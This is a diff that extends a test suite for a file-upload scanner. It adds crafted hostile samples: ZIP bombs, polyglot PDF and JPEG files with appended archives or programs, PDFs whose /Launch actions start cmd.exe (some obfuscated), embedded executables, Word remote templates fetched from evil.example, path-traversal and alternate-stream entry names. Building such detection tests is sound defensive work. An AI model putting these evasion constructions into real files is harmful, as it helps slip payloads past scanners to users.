@@ -5,6 +5,7 @@ import random
 import socket
 import stat
 import zipfile
+import zlib
 from collections.abc import Callable
 from dataclasses import dataclass
 from pathlib import Path
@@ -18,6 +19,7 @@ Make = Callable[[bytes], None]
 
 NOISE = random.Random(5).randbytes(3_000_000)
 DOC = making.ole({"WordDocument": making.word()})
+LONG_NAMES = making.zipped({f"{at:060000}": b"" for at in range(80)}, method=zipfile.ZIP_STORED)
 MANY_ZEROS = making.zipped({f"{at}.txt": bytes(8_000_000) for at in range(10)})
 
 
@@ -89,6 +91,7 @@ def _unreadable_name(text: str) -> Case:
 
 
 PDF = making.pdf()
+SCRIPTS = making.zipped({"a.js": "1", "x.exe": making.PE})
 JPEG = making.picture("JPEG")
 PNG = making.picture("PNG")
 
@@ -253,6 +256,15 @@ ZIPS = [
     _case("three entries that share their bytes", "资料.zip", making.overlapping_zip(3),
           V.ZIP_BOMB),
     _case("bomb of 20,000 entries", "资料.zip", making.crowded_zip(20_000), V.ZIP_BOMB),
+    _case("bomb of long names", "资料.zip", LONG_NAMES, V.ZIP_BOMB),
+    _case("bomb of long names, told by the large end", "资料.zip",
+          making.zip64(LONG_NAMES, count=80, small=False), V.ZIP_BOMB),
+    _case("ZIP whose two ends disagree", "资料.zip",
+          making.zip64(making.zipped({"a": "a"}), count=2), V.DAMAGED),
+    _case("ZIP whose large end is elsewhere", "资料.zip",
+          making.zip64(making.zipped({"a": "a"}), moved=-8, small=False), V.DAMAGED),
+    _case("ZIP with two lists of contents", "资料.zip",
+          making.two_ends(making.zipped({"a": "a"})), V.DAMAGED),
     _case("bomb that lies about its size", "资料.zip", making.patched(making.patched(
         making.zipped({"a.txt": NOISE[:99_999]}), b"PK\x01\x02", 24, b"\x01\0\0\0"),
         b"PK\x03\x04", 22, b"\x01\0\0\0"), V.ZIP_BOMB),
@@ -280,7 +292,7 @@ ZIPS = [
     _case("ZIP with a program by another name", "资料.zip", making.zipped({"a.pdf": making.PE}),
           V.ZIP_PROGRAM),
     _case("Word with a program", "招标.docx", making.docx({"word/embeddings/x.bin": making.PE}),
-          V.ZIP_PROGRAM),
+          V.HELD_PROGRAM),
     _case("ZIP with a macro document", "资料.zip",
           making.zipped({"a.docx": making.docx({"word/vbaProject.bin": b"x"})}), V.MACROS),
     _case("ZIP with an old macro document", "资料.zip", making.zipped({"a.doc": making.ole(
@@ -291,11 +303,17 @@ ZIPS = [
           V.MACROS),
     _case("ZIP with a password", "资料.zip", making.encrypted_zip(making.zipped({"a": "a"})),
           V.ENCRYPTED),
+    _case("ZIP with a password, which only the entry tells", "资料.zip", making.patched(
+        making.zipped({"a": "a"}), b"PK\x03\x04", 6, b"\x01\0"), V.ENCRYPTED),
     _case("OFD with a password", "招标.ofd", making.ofd({"Encryptions.xml": "<a/>"}), V.ENCRYPTED),
     _case("self-extracting ZIP", "资料.zip", making.zipped({"a": "a"}, prefix=making.PE),
           V.PROGRAM),
     _case("ZIP behind a ZIP's beginning", "资料.zip",
           making.zipped({"a": "a"}, prefix=b"PK\x03\x04" + bytes(60)), V.LEADING_BYTES),
+    _case("ZIP behind a ZIP's beginning, with offsets from there", "资料.zip",
+          making.behind(b"PK\x03\x04" + bytes(60), {"a": "a"}), V.LEADING_BYTES),
+    _case("ZIP behind other bytes", "资料.zip", making.zipped({"a": "a"}, prefix=bytes(99)),
+          V.KIND_DIFFERS),
     _case("ZIP cut off", "资料.zip", making.zipped({"a": NOISE[:999]})[:500], V.TRUNCATED),
     _case("Word cut off", "招标.docx", making.docx()[:300], V.TRUNCATED),
     _case("ZIP of nothing", "资料.zip", making.zipped({}), V.EMPTY),
@@ -310,6 +328,14 @@ ZIPS = [
           making.zipped({"a": b"a" * 99}, method=zipfile.ZIP_LZMA), V.NOT_EXAMINABLE),
     _case("ZIP whose places disagree", "资料.zip", making.patched(
         making.zipped({"a": b"a" * 99}), b"PK\x03\x04", 22, b"\x07\0\0\0"), V.DAMAGED),
+    _case("ZIP whose methods disagree", "资料.zip", making.patched(
+        making.zipped({"a": b"a" * 99}), b"PK\x03\x04", 8, b"\0\0"), V.DAMAGED),
+    _case("ZIP whose names disagree", "资料.zip",
+          making.zipped({"a.txt": "a", "b.txt": "b"}).replace(b"b.txt", b"b.exe", 1), V.DAMAGED),
+    _case("ZIP whose names disagree at its end", "资料.zip",
+          making.crowded_zip(2_100).replace(b"2099", b"x099", 1), V.DAMAGED),
+    _case("ZIP with two entries of one name", "资料.zip",
+          making.zipped({"a.txt": "a", "b.txt": "b"}).replace(b"b.txt", b"a.txt"), V.DAMAGED),
     _case("ZIP with damaged bytes", "资料.zip", making.patched(
         making.zipped({"a": b"a" * 99}), b"PK\x03\x04", 31, b"\xff\xff"), V.DAMAGED),
 ]  # fmt: skip
@@ -324,7 +350,153 @@ MALWARE = [
          "x": making.EICAR}, method=zipfile.ZIP_STORED), V.MALWARE),
 ]  # fmt: skip
 
-BAD = [*NAMES, *PLACES, *PROGRAMS, *CONTENTS, *ZIPS, *MALWARE]
+TWO_AT_ONCE = [
+    _case("PDF, ZIP and an end", "招标.pdf", PDF + SCRIPTS + b"\n%%EOF\n", V.TWO_KINDS),
+    _case("PDF and a ZIP of no entries", "招标.pdf",
+          PDF + making.ending_with(SCRIPTS, count=0), V.TWO_KINDS),
+    _case("JPEG and a ZIP of no entries", "照片.jpg",
+          JPEG + making.ending_with(SCRIPTS, count=0), V.TWO_KINDS),
+    _case("JPEG and a ZIP with a comment that is cut off", "照片.jpg",
+          JPEG + making.ending_with(SCRIPTS, comment=0xFFFF), V.TWO_KINDS),
+    _case("text and ZIP", "说明.txt", b"text\n" * 2000 + SCRIPTS, V.TWO_KINDS),
+    _case("Word 97 and ZIP", "招标.doc", DOC + SCRIPTS, V.TWO_KINDS),
+    _case("Word 97 and RAR", "招标.doc", DOC + making.RAR5, V.TWO_KINDS),
+    _case("Word 97 with a ZIP in it", "招标.doc",
+          making.ole({"WordDocument": making.word(), "Data": bytes(512) + SCRIPTS}), V.TWO_KINDS),
+    _case("PDF and RAR", "招标.pdf", PDF + making.RAR5, V.TWO_KINDS),
+    _case("PDF and RAR far behind", "招标.pdf",
+          making.pdf(inside=NOISE[:1_040_000]) + b"\n" * 40_000 + making.RAR5, V.TWO_KINDS),
+    _case("PDF, 7z and an end", "招标.pdf", PDF + making.SEVEN_ZIP + b"%%EOF", V.TWO_KINDS),
+    _case("PDF with RAR before its only end", "招标.pdf",
+          PDF[:-6] + making.RAR5 + PDF[-6:], V.TWO_KINDS),
+    _case("PDF, program and an end", "招标.pdf", PDF + making.PE + b"\n%%EOF\n", V.TWO_KINDS),
+    _case("JPEG and RAR", "照片.jpg", JPEG + making.RAR5, V.TWO_KINDS),
+    _case("JPEG and 7z", "照片.jpg", JPEG + making.SEVEN_ZIP, V.TWO_KINDS),
+    _case("JPEG and program", "照片.jpg", JPEG + making.PE, V.TWO_KINDS),
+    _case("JPEG with a script far before the file's end", "照片.jpg",
+          JPEG + b"<script>1</script>" + bytes(70_000), V.TWO_KINDS),
+    _case("PNG and RAR", "照片.png", PNG + making.RAR5, V.TWO_KINDS),
+    _case("TIFF and RAR", "扫描.tif", making.picture("TIFF") + making.RAR5, V.TWO_KINDS),
+    _case("BMP and program", "照片.bmp", making.picture("BMP") + making.ELF, V.TWO_KINDS),
+    _case("ZIP and HTML", "资料.zip",
+          making.zipped({"a.txt": "a"}) + b"<script>1</script>", V.TRAILING_BYTES),
+    _case("ZIP and RAR", "资料.zip", making.zipped({"a.txt": "a"}) + making.RAR5,
+          V.TRAILING_BYTES),
+    _case("Word and program", "招标.docx", making.docx() + making.PE, V.TRAILING_BYTES),
+    _case("ZIP with an entry that its list leaves out", "资料.zip", making.one_entry(
+        b"a.txt", b"a", gap=SCRIPTS[: SCRIPTS.index(b"PK\x01\x02")]), V.DAMAGED),
+    _case("ZIP with bytes between", "资料.zip",
+          making.one_entry(b"a.txt", b"a", gap=b"not twelve"), V.DAMAGED),
+]  # fmt: skip
+
+ACTING = [
+    _case("PDF that starts a program", "招标.pdf",
+          making.acting_pdf(b"/OpenAction<</S/Launch/F(cmd.exe)>>"), V.STARTS_OTHERS),
+    _case("PDF that starts a program, spelt otherwise", "招标.pdf",
+          making.acting_pdf(b"/OpenAction<</S/L#61unc#68/F(cmd.exe)>>"), V.STARTS_OTHERS),
+    _case("PDF with a link that starts a program", "招标.pdf", making.acting_pdf(
+        b"", pages=b"/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<</S/Launch/F(a.bat)>>>>]"),
+        V.STARTS_OTHERS),
+    _case("PDF that starts a program, packed", "招标.pdf",
+          making.packed_objects(b"<</S/Launch/F(cmd.exe)>>"), V.STARTS_OTHERS),
+    _case("PDF that starts a program, packed in a rare way", "招标.pdf",
+          making.packed_twice(b"<</S/Launch/F(cmd.exe)>>"), V.STARTS_OTHERS),
+    _case("PDF with a program attached", "招标.pdf",
+          making.attaching_pdf("x.dat", making.PE), V.HELD_PROGRAM),
+    _case("PDF with a program's name attached", "招标.pdf",
+          making.attaching_pdf("x.hta", b"<p>"), V.HELD_PROGRAM),
+    _case("PDF with a program attached, packed", "招标.pdf", making.attaching_pdf(
+        "x.dat", zlib.compress(making.PE), more=b"/Filter/FlateDecode"), V.HELD_PROGRAM),
+    _case("PDF with a program attached to a page", "招标.pdf", making.acting_pdf(
+        b"", making.PE, pages=b"/Annots[<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]"
+        b"/FS<</Type/Filespec/F(x.exe)/EF<</F 4 0 R>>>>>>]"), V.HELD_PROGRAM),
+    _case("PDF with RAR attached", "招标.pdf",
+          making.attaching_pdf("x.rar", making.RAR5), V.ZIP_NESTED),
+    _case("PDF with a ZIP of programs in a stream", "招标.pdf", making.pdf(inside=SCRIPTS),
+          V.ZIP_PROGRAM),
+    _case("ZIP with a PDF that starts a program", "资料.zip", making.zipped(
+        {"a.pdf": making.acting_pdf(b"/OpenAction<</S/Launch/F(cmd.exe)>>")}), V.STARTS_OTHERS),
+    _case("Word with a package of a program", "招标.docx", making.docx({
+        "word/embeddings/oleObject1.bin": making.ole(
+            {"\x01Ole10Native": making.package("a.exe", making.PE)})}), V.HELD_PROGRAM),
+    _case("Word 97 with a package of a program", "招标.doc", making.ole({
+        "WordDocument": making.word(), "\x01Ole10Native": making.package("表.pdf", making.PE)}),
+        V.HELD_PROGRAM),
+    _case("Word 97 with a package of a script", "招标.doc", making.ole({
+        "WordDocument": making.word()}, small={"\x01Ole10Native": making.package("a.vbs", b"1")}),
+        V.HELD_PROGRAM),
+    _case("Word 97 with a package that is none", "招标.doc", making.ole({
+        "WordDocument": making.word(), "\x01Ole10Native": b"evil.exe\0" + making.PE}),
+        V.HELD_PROGRAM),
+    _case("Word 97 with a second package, of a program", "招标.doc", making.ole(
+        {"WordDocument": making.word(), "\x01Ole10Native": making.package("a.exe", b"1")},
+        small={"\x01Ole10Native": making.package("a.txt", b"1")}), V.HELD_PROGRAM),
+    _case("Excel 97 with a sheet of macros", "清单.xls",
+          making.ole({"Workbook": making.workbook(macro_sheet=True)}), V.MACROS),
+    _case("Word with a batch file", "招标.docx", making.docx({"word/run.bat": "del x"}),
+          V.HELD_PROGRAM),
+    _case("Word with JScript", "招标.docx", making.docx({"word/y.js": "x"}), V.HELD_PROGRAM),
+    _case("OFD with VBScript", "招标.ofd", making.ofd({"Doc_0/Attachs/a.vbs": "x"}),
+          V.HELD_PROGRAM),
+    _case("OFD with HTA", "招标.ofd", making.ofd({"Doc_0/Attachs/a.hta": "x"}), V.HELD_PROGRAM),
+    _case("Excel with a sheet of macros", "清单.xlsx",
+          making.xlsx({"xl/macrosheets/sheet1.xml": "<a/>"}), V.MACROS),
+    _case("Excel with a sheet of macros by another name", "清单.xlsx", making.xlsx({
+        "xl/a.xml": "<a/>", "[Content_Types].xml": making.types(
+            "/xl/a.xml", "application/vnd.ms-excel.macrosheet+xml")}), V.MACROS),
+    _case("Word with macros by another name", "招标.docx", making.docx({
+        "word/a.bin": b"x", "[Content_Types].xml": making.types(
+            "/word/a.bin", "application/vnd.ms-office.vbaProject")}), V.MACROS),
+    _case("Word with macros by their relation", "招标.docx", making.docx({
+        "word/a.bin": b"x", "word/_rels/document.xml.rels": making.relations(
+            "vbaProject", "a.bin").encode("utf-16")}), V.MACROS),
+    _case("Word with macros behind 2,500 parts", "招标.docx", making.docx({
+        **{f"word/media/{at}.xml": "a" for at in range(2500)},
+        "word/z.bin": making.ole({"_VBA_PROJECT": b"x"})}), V.MACROS),
+    _case("Word with a template from elsewhere", "招标.docx", making.docx({
+        "word/_rels/settings.xml.rels": making.relations(
+            "attachedTemplate", "http://evil.example/x.dotm")}), V.LOADS_OTHERS),
+    _case("Word with a template on another computer", "招标.docx", making.docx({
+        "word/_rels/settings.xml.rels": making.relations(
+            "attachedTemplate", "file:///\\\\evil\\x.dotm")}), V.LOADS_OTHERS),
+    _case("Word with an object from elsewhere", "招标.docx", making.docx({
+        "word/_rels/document.xml.rels": making.relations(
+            "oleObject", "mhtml:http://evil.example/x!x")}), V.LOADS_OTHERS),
+    _case("ZIP with a large ZIP that is called Word", "资料.zip", making.zipped({
+        "a.docx": making.zipped({"x.exe": making.PE, "r.bin": random.Random(3).randbytes(
+            16_500_000)}, method=zipfile.ZIP_STORED)}, method=zipfile.ZIP_STORED), V.ZIP_PROGRAM),
+    _case("ZIP with a large packed Word document that holds a program", "资料.zip", making.zipped({
+        "a.docx": making.docx({"word/media/a": random.Random(3).randbytes(16_500_000),
+                               "word/x.bat": "1"})}), V.HELD_PROGRAM),
+    *[_case(f"ZIP with {name}", "资料.zip", making.zipped({name: "x"}), V.ZIP_PROGRAM) for name in (
+        "a.library-ms", "a.ｅｘｅ", "a.bat . ")],
+]  # fmt: skip
+
+LYING = [
+    _case("ZIP of 200 MB that says 200 kB", "资料.zip", making.lying_zip(bytes(200_000_000)),
+          V.ZIP_BOMB),
+    _case("ZIP that says less and has the sum of less", "资料.zip",
+          making.lying_zip(bytes(10_000), size=600, checksum=bytes(600)), V.ZIP_BOMB),
+    _case("ZIP that says more", "资料.zip",
+          making.lying_zip(b"a" * 600, size=10_000, checksum=b"a" * 600), V.DAMAGED),
+    _case("ZIP with a wrong sum", "资料.zip", making.one_entry(b"a", b"a", checksum=7), V.DAMAGED),
+    _case("ZIP with a second name, of a program", "资料.zip", making.one_entry(
+        b"a.txt", b"a", extra=making.unicode_path(b"a.txt", "evil.bat")), V.ZIP_PROGRAM),
+    _case("ZIP with a second name, that climbs", "资料.zip", making.one_entry(
+        b"a.txt", b"a", extra=making.unicode_path(b"other", "../../evil")), V.ZIP_PATH),
+    _case("ZIP with a second name in the entry only", "资料.zip", making.one_entry(
+        b"a.txt", b"a", extra=making.unicode_path(b"a.txt", "b.txt"))
+        .replace(b"up", b"uq").replace(b"uq", b"up", 1), V.DAMAGED),
+    _case("ZIP with an alternate stream", "资料.zip",
+          making.zipped({"d/evil.bat::$DATA": "x"}), V.ZIP_PATH),
+    _case("ZIP with a program with a far header", "资料.zip",
+          making.zipped({"a.dat": making.FAR_PE}), V.ZIP_PROGRAM),
+]  # fmt: skip
+
+IN_CHILDREN = [*NAMES, *PLACES, *PROGRAMS, *CONTENTS, *ZIPS, *MALWARE]
+IN_PROCESS = [*TWO_AT_ONCE, *ACTING, *LYING]
+"""Looked into without starting a process for each, which takes most of the time."""
+BAD = [*IN_CHILDREN, *IN_PROCESS]
 
 GOOD = [
     _case("PDF with a Chinese name", "浑河北路道路维修工程 投标函（一）.pdf", PDF, V.OPENS_PAGES),
@@ -359,6 +531,58 @@ GOOD = [
         {"资质/": b"", "资质/一.pdf": PDF, "二.docx": making.docx(), "三.doc": DOC}), V.OPENS),
     _case("ZIP with one small repeated value", "资料.zip",
           making.zipped({"a.txt": bytes(900_000)}), V.OPENS),
+    _case("ZIP with a comment", "资料.zip",
+          making.zipped({"a": "a"})[:-2] + b"\x03\0bye", V.OPENS),
+    _case("ZIP with a large end", "资料.zip", making.zip64(making.zipped({"a": "a"})), V.OPENS),
+    _case("ZIP with only a large end", "资料.zip",
+          making.zip64(making.zipped({"a": "a"}), small=False), V.OPENS),
+    _case("PDF with a link and a form", "招标.pdf", making.acting_pdf(
+        b"/AcroForm<</Fields[]>>", pages=b"/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<</S/URI"
+        b"/URI(http://www.example.cn)>>>>]"), V.OPENS_PAGES),
+    _case("PDF with a script", "招标.pdf",
+          making.acting_pdf(b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"), V.SCRIPTS),
+    _case("PDF with a script, packed", "招标.pdf",
+          making.packed_objects(b"<</S/JavaScript/JS(1)>>"), V.SCRIPTS),
+    _case("PDF with a script, packed in a rare way", "招标.pdf",
+          making.packed_twice(b"<</S/JavaScript/JS(1)>>"), V.SCRIPTS),
+    _case("PDF with a text attached", "发票.pdf",
+          making.attaching_pdf("a.xml", b"<a>1</a>"), V.OPENS_PAGES),
+    _case("PDF with a Word document attached", "招标.pdf",
+          making.attaching_pdf("a.docx", making.docx()), V.OPENS_PAGES),
+    _case("PDF with an update behind its end", "招标.pdf",
+          PDF + b"9 0 obj\n<</A 1>>\nendobj\n" + PDF[PDF.index(b"xref"):], V.OPENS_PAGES),
+    _case("PDF with a note behind its end", "招标.pdf", PDF + b"--boundary--\r\n", V.OPENS_PAGES),
+    _case("motion photo", "照片.jpg", JPEG + making.film(3_000_000), V.OPENS),
+    _case("JPEG with a second picture behind it", "照片.jpg", JPEG + bytes(90) + JPEG, V.OPENS),
+    _case("JPEG with a vendor's notes behind it", "照片.jpg",
+          JPEG + making.film(200_000) + b"LIVE_1234:5678      ", V.OPENS),
+    _case("Word with a template on this computer", "技术方案.docx", making.docx({
+        "word/_rels/settings.xml.rels": making.relations(
+            "attachedTemplate", "file:///C:\\Users\\li\\投标.dotx")}), V.OPENS),
+    _case("Word with a link and a vector picture", "技术方案.docx", making.docx({
+        "word/media/image1.svg": "<svg xmlns='http://www.w3.org/2000/svg'/>",
+        "word/_rels/document.xml.rels": making.relations(
+            "hyperlink", "http://www.example.cn")}), V.OPENS),
+    _case("Word with a packed-up PDF", "技术方案.docx", making.docx({
+        "word/embeddings/oleObject1.bin": making.ole({}, small={
+            "\x01Ole10Native": making.package("资质.pdf", PDF), "\x01Ole": bytes(20)})}), V.OPENS),
+    _case("Word 97 with small parts", "技术方案.doc", making.ole(
+        {"WordDocument": making.word()}, small={"\x01CompObj": bytes(100), "x": b"y" * 900}),
+        V.OPENS),
+    _case("Word 97 with a workbook in it", "技术方案.doc", making.ole(
+        {"WordDocument": making.word(), "Package": making.xlsx()}), V.OPENS),
+    _case("large Word document, packed in a ZIP", "资料.zip", making.zipped({
+        "a.docx": making.docx({"word/media/a": random.Random(3).randbytes(16_500_000)})}), V.OPENS),
+    _case("ZIP of Windows", "资料.zip",
+          making.one_entry("资质/一.txt".encode("gbk"), b"a"), V.OPENS),
+    _case("ZIP of macOS", "资料.zip", making.streamed_zip(
+        {"资质/一.pdf": PDF, "__MACOSX/资质/._一.pdf": b"\0\x05\x16\x07" + bytes(90)}), V.OPENS),
+    _case("ZIP of Info-ZIP", "资料.zip", making.one_entry(
+        "一.txt".encode("gbk"), b"a",
+        extra=making.unicode_path("一.txt".encode("gbk"), "一.txt"), system=3), V.OPENS),
+    _case("ZIP of 7-Zip", "资料.zip", making.zipped(
+        {"一.txt": "a", "二.pdf": PDF}, method=zipfile.ZIP_STORED), V.OPENS),
+    _case("ZIP with zeros behind", "资料.zip", making.zipped({"a": "a"}) + bytes(300), V.OPENS),
     _case("sealed bid", "投标文件.ggzyTBWJ", NOISE, V.SEALED),
     _case("sealed bid that begins like a program", "投标文件.tbwj", b"MZ" + NOISE[:9000], V.SEALED),
     _case("sealed bid that begins like a script", "投标文件.zbwj", b"#!" + NOISE[:9000], V.SEALED),
